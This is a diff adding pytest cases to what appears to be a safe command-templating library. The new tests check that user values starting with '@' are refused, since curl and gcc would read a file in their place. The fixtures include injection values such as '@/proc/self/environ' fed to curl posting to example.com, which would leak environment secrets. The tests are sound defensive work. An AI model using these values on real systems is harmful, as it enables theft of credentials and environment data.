@@ -476,6 +476,35 @@ def test_a_dash_written_in_the_template_stays_allowed(
     assert render_command(argv, specs, values).argv[1] == expected
 
 
+@pytest.mark.parametrize(
+    ("template", "values"),
+    [
+        ("curl -d {{a}} https://example.com/", {"a": "@/proc/self/environ"}),
+        ("curl --data-binary {{a}} https://example.com/", {"a": "@-"}),
+        ("curl -H {{a}} https://example.com/", {"a": "@/proc/self/environ"}),
+        ("gcc {{a}}", {"a": "@/tmp/options"}),
+        ("echo {{a}}{{b}}", {"a": "", "b": "@x"}),
+        ("echo {{a}}{{b}}", {"a": "@", "b": "x"}),
+    ],
+)
+def test_a_value_can_never_name_a_file_read_in_its_place(
+    template: str, values: dict[str, str]
+) -> None:
+    specs = [spec(name, required=False) for name in values]
+    argv = compile_command(template, specs, allowing("curl", "gcc", "echo"))
+    with pytest.raises(Refusal) as refusal:
+        render_command(argv, specs, values)
+    assert refusal.value.rule == "leading_at"
+    assert refusal.value.parameter in values
+
+
+def test_an_at_sign_written_in_the_template_or_allowed_stays() -> None:
+    specs = [spec("a", allow_leading_dash=True), spec("b")]
+    argv = compile_command("echo {{a}} @{{b}} x@{{b}}", specs, DEFAULTS)
+    rendered = render_command(argv, specs, {"a": "@alice", "b": "@bob"}).argv
+    assert rendered == ["echo", "@alice", "@@bob", "x@@bob"]
+
+
 def test_a_parameter_that_allows_a_leading_dash_may_start_an_option() -> None:
     specs = [spec("a", allow_leading_dash=True), spec("b")]
     argv = compile_command("echo {{a}}{{b}}", specs, DEFAULTS)
